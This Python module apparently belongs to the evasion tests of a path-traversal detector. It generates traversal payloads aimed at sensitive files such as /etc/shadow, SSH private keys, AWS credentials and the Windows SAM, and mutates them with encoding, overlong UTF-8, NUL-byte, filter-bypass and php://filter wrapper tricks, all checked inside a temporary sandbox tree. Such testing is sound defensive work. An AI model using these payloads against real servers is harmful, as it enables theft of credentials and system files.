"""Path traversal: payloads, mutations, and the file that each resolves to.

A file lives if a reference decoder and path normaliser of one kind of server come from the
value to the file that the payload it was made of names, and that file can be read in a
tree of its own. The kinds are those that published advisories describe: the value decoded
once more, the backslash taken for a slash (Windows), parameters cut off (`..;`, Tomcat),
over-long UTF-8 accepted (old JVMs, IIS), `%uXXXX` (IIS), the name cut at NUL (C), `../` taken
away once by a filter, schemes and stream wrappers (`file:`, `php://filter`).
"""

from __future__ import annotations

import re
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import unquote, unquote_to_bytes

from text import mixed

ROOT = "/var/www/app/public/files"
FILES = (  # noqa: SIM905 -- words
    "/etc/passwd /etc/shadow /etc/group /etc/hosts /etc/hostname /etc/issue /etc/fstab "
    "/etc/crontab /etc/ssh/sshd_config /etc/nginx/nginx.conf /etc/apache2/apache2.conf "
    "/etc/mysql/my.cnf /etc/php.ini /proc/self/environ /proc/self/cmdline /proc/version "
    "/proc/self/status /var/log/auth.log /var/log/apache2/access.log /var/log/nginx/error.log "
    "/root/.bash_history /root/.ssh/id_rsa /home/app/.ssh/authorized_keys "
    "/home/app/.aws/credentials /var/www/app/.env /var/www/app/wp-config.php "
    "/var/www/app/config/database.yml /var/www/app/web.config /var/www/app/WEB-INF/web.xml "
    "/var/www/app/.git/config /var/www/app/settings.py /var/www/app/package.json "
    "/var/www/app/index.php /windows/win.ini /windows/system32/drivers/etc/hosts /boot.ini "
    "/inetpub/wwwroot/web.config /windows/system32/config/sam"
).split()
WINDOWS = ("/windows", "/boot.ini", "/inetpub")


def _bases() -> Iterator[tuple[str, str]]:
    for number, file in enumerate(FILES):
        if file.startswith("/var/www/app/"):
            yield "once", "../../" + file.removeprefix("/var/www/app/")
        else:
            climb = "../" * (5, 6, 8, 12)[number % 4]
            yield "once", climb + file.removeprefix("/")
    for file in (
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "/var/log/auth.log",
        "/windows/win.ini",
    ):
        yield "once", "/.." * 6 + file
        yield "once", file
    yield "once", "images/../../../../../../etc/passwd"
    yield "once", "./../../../../../etc/passwd"
    yield "once", "../../../../../../../../../../../../etc/hosts"


BASES = list(dict.fromkeys(_bases()))


def _normalise(path: str) -> str:
    """The absolute path below the folder of files, as the operating system walks it."""
    parts: list[str] = [] if path.startswith("/") else ROOT.strip("/").split("/")
    for part in path.split("/"):
        if part == "..":
            parts = parts[:-1]
        elif part not in ("", "."):
            parts.append(part)
    return "/" + "/".join(parts)


def _lenient(data: bytes) -> str:
    """UTF-8 as decoders read it that do not ask for the shortest form."""
    out = []
    at = 0
    while at < len(data):
        lead = data[at]
        more = (
            1
            if lead & 0xE0 == 0xC0
            else 2
            if lead & 0xF0 == 0xE0
            else 3
            if lead & 0xF8 == 0xF0
            else 0
        )
        value = lead & (0x7F if more == 0 else 0x3F >> more)
        for byte in data[at + 1 : at + 1 + more]:
            value = value << 6 | byte & 0x3F
        out.append(chr(value) if value < 0x110000 else "?")
        at += 1 + more
    return "".join(out)


def _lowered(path: str) -> str:
    return path.replace("\\", "/").lower().removeprefix("c:")


def _uni(value: str) -> str:
    return unquote(re.sub(r"%u([0-9a-fA-F]{4})", lambda f: chr(int(f[1], 16)), value))


def _wrapper(value: str) -> str:
    low = value.lower()
    if low.startswith("php://filter/"):
        return value[low.index("resource=") + 9 :]
    for scheme in ("file://localhost", "file://", "file:", "zip://", "phar://", "compress.zlib://"):
        if low.startswith(scheme):
            return value[len(scheme) :]
    return value


#: how servers come from a value to a path
SERVERS: dict[str, Callable[[str], str]] = {
    "once": lambda v: v,
    "twice": unquote,
    "three times": lambda v: unquote(unquote(v)),
    "windows": _lowered,
    "windows, twice": lambda v: _lowered(unquote(v)),
    "parameters": lambda v: "/".join(p.partition(";")[0] for p in v.split("/")),
    "overlong": lambda v: _lenient(unquote_to_bytes(v)),
    "unicode escapes": _uni,
    "unicode escapes, windows": lambda v: _lowered(_uni(v)),
    "NUL": lambda v: v.partition("\0")[0],
    "filter": lambda v: v.replace("../", ""),
    "filter, windows": lambda v: _lowered(v.replace("..\\", "")),
    "wrapper": _wrapper,
    "root": lambda v: v.removeprefix(ROOT),
    "extension": lambda v: v.partition("?")[0].partition("#")[0],
}


def mutants(_: str, payload: str) -> Iterator[tuple[str, str, str]]:
    """What a payload becomes: by what server, the mutation's name, the value."""
    back = payload.replace("/", "\\")
    yield "windows", "backslashes", back
    yield (
        "windows",
        "both slashes",
        re.sub(r"\.\./", "..\\\\", payload, count=2).replace("\\\\", "\\"),
    )
    yield "windows", "mixed case", "/".join(mixed(p) for p in payload.split("/"))
    yield "windows", "a drive", "C:" + (payload if payload.startswith("/") else "\\" + back)
    for name, dots, slash in (
        ("escaped slashes", "..", "%2f"),
        ("escaped dots", "%2e%2e", "/"),
        ("escaped dots and slashes", "%2e%2e", "%2f"),
        ("one escaped dot", ".%2e", "/"),
        ("escapes in capitals", "%2E%2E", "%2F"),
    ):
        yield "twice", name, payload.replace("/", slash).replace("..", dots)
        yield (
            "three times",
            f"{name}, again",
            payload.replace("/", slash).replace("..", dots).replace("%", "%25"),
        )
    yield "windows, twice", "escaped backslashes", back.replace("\\", "%5c")
    yield (
        "windows, twice",
        "escaped dots and backslashes",
        back.replace("..", "%2e%2e").replace("\\", "%5c"),
    )
    for name, slash, dot in (
        ("overlong slashes", "%c0%af", "."),
        ("overlong dots", "/", "%c0%ae"),
        ("overlong both", "%c0%af", "%c0%ae"),
        ("longer slashes", "%e0%80%af", "."),
        ("longest slashes", "%f0%80%80%af", "."),
        ("longer dots", "/", "%e0%80%ae"),
    ):
        climbed = re.sub(r"\.\./", (dot + dot + slash).replace("\\", r"\\"), payload)
        yield "overlong", name, climbed
    yield "unicode escapes", "unicode slashes", payload.replace("/", "%u002f")
    yield "unicode escapes", "unicode dots", payload.replace("..", "%u002e%u002e")
    yield "unicode escapes, windows", "unicode backslashes", back.replace("\\", "%u005c")
    yield "filter", "doubled", payload.replace("../", "....//")
    yield "filter", "nested", payload.replace("../", "..././")
    yield "filter, windows", "doubled backslashes", back.replace("..\\", "....\\\\")
    yield "parameters", "parameters", payload.replace("../", "..;/")
    yield "parameters", "named parameters", payload.replace("../", "..;x=y/")
    yield "parameters", "a parameter on the file", payload + ";x=1"
    for suffix in (".png", ".html", ".jpg.txt"):
        yield "NUL", f"NUL and {suffix}", payload + "\0" + suffix
    yield "extension", "a query behind", payload + "?x=.png"
    yield "extension", "a fragment behind", payload + "#.pdf"
    yield "once", "doubled slashes", payload.replace("/", "//")
    yield "once", "dots between", payload.replace("/", "/./")
    yield "once", "many slashes", payload.replace("/", "///")
    yield (
        "once",
        "down and up",
        payload.replace("../", "a/../../", 1) if payload.startswith("..") else "/x/.." + payload,
    )
    yield "once", "up more often", "../" * 20 + payload.lstrip("./") if ".." in payload else payload
    yield (
        "once",
        "a folder before",
        "img/../" + payload if payload.startswith("..") else "/usr/.." + payload,
    )
    yield (
        "once",
        "deep before",
        "a/b/c/../../../" + payload if payload.startswith("..") else "/usr/lib/../.." + payload,
    )
    yield (
        "once",
        "from the root",
        "/" + payload if payload.startswith("../../../../..") else payload,
    )
    yield "once", "a dot before", "./" + payload if payload.startswith("..") else "/." + payload
    absolute = "/" + re.sub(r"^[./]+", "", payload)
    yield (
        "root",
        "the right folder before",
        ROOT + "/" + payload if payload.startswith("..") else payload,
    )
    for name, before in (
        ("a file URL", "file://"),
        ("a file URL with a host", "file://localhost"),
        ("a file URL in capitals", "FILE://"),
        ("a short file URL", "file:"),
        ("PHP's filter", "php://filter/convert.base64-encode/resource="),
        ("PHP's filter, read", "php://filter/read=string.rot13/resource="),
        ("PHP's filter, mixed case", "pHp://FilTer/convert.base64-encode/resource="),
        ("a compressed stream", "compress.zlib://"),
    ):
        yield (
            "wrapper",
            name,
            before + (payload if before.startswith("php") or "zlib" in before else absolute),
        )


class Live:
    """A tree that holds every file."""

    def __init__(self) -> None:
        self.room = tempfile.TemporaryDirectory(prefix="doorward-tree-")
        for file in FILES:
            path = Path(self.room.name + file)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"this is {file}")
        self.engines = ["reference decoder of tests/evasion"]

    def _read(self, server: str, value: str) -> str | None:
        path = Path(self.room.name + _normalise(SERVERS[server](value)))
        try:
            return path.read_text()
        except (OSError, ValueError):
            return None

    def check(self, cases: list[tuple[str, str, str]]) -> list[bool]:
        """Of each server, base and mutant: whether both read the same file."""
        found = [
            (self._read("once", base), self._read(server, mutant)) for server, base, mutant in cases
        ]
        return [wanted is not None and wanted == read for wanted, read in found]

    def close(self) -> None:
        self.room.cleanup()
